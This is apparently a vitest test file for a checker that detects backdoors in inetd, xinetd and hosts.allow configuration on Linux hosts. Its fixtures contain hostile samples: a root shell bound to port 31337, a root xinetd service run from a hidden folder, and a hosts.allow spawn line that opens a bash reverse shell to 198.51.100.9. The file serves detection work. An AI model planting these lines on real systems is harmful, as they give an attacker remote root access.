import { expect, it } from 'vitest';
import { tellsOf } from '../../../test/plant-rows.ts';
import { inetd, inetdServices, xinetdServices } from './check.ts';

tellsOf(inetd, {
  rows: {
    'a shell behind a port': { files: { '/etc/inetd.conf': '#\nftp stream tcp nowait root /usr/sbin/tcpd /usr/sbin/vsftpd\n31337 stream tcp nowait root /bin/sh sh -i\n' }, finds: ['intrusion critical /etc/inetd.conf'] },
    'a service of xinetd in a hidden folder': { files: { '/etc/xinetd.d/time-x': 'service time-x\n{\n  socket_type = stream\n  user = root\n  server = /usr/lib/.t/timed\n  disable = no\n}\n' }, finds: ['intrusion high /etc/xinetd.d/time-x'] },
    'a command for each connection': { files: { '/etc/hosts.allow': 'sshd: 198.51.100.9 : spawn (/bin/bash -i >& /dev/tcp/198.51.100.9/9001 0>&1) &\n' }, finds: ['intrusion critical /etc/hosts.allow'] },
  },
  ordinary: {
    '/etc/inetd.conf': 'echo stream tcp nowait root internal\nrsync stream tcp nowait root /usr/bin/rsync rsync --daemon\n',
    '/etc/xinetd.d/check_mk': 'service check_mk\n{\n port = 6556\n server = /usr/local/bin/check_mk_agent\n user = root\n disable = no\n}\n', '/usr/local/bin/check_mk_agent': { text: '#!/bin/bash\necho "<<<check_mk>>>"\nuptime\n', mode: 0o755 },
    '/etc/hosts.deny': 'sshd: ALL : spawn /bin/echo "refused %h" | /usr/bin/logger\n',
  },
  reads: '/etc/xinetd.d/time-x',
});

it('takes services apart', () => {
  expect(inetdServices('a stream tcp nowait nobody.nogroup /usr/sbin/tcpd /usr/sbin/in.a -x\n')[0]).toMatchObject({ user: 'nobody', words: ['/usr/sbin/in.a', '-x'] });
  expect(xinetdServices('service b\n{\n flags = REUSE NAMEINARGS\n server = /usr/sbin/tcpd\n server_args = /usr/sbin/in.b -l\n disable = yes\n}\n')).toMatchObject([{ name: 'b', words: ['/usr/sbin/in.b', '-l'], disabled: true }]);
});
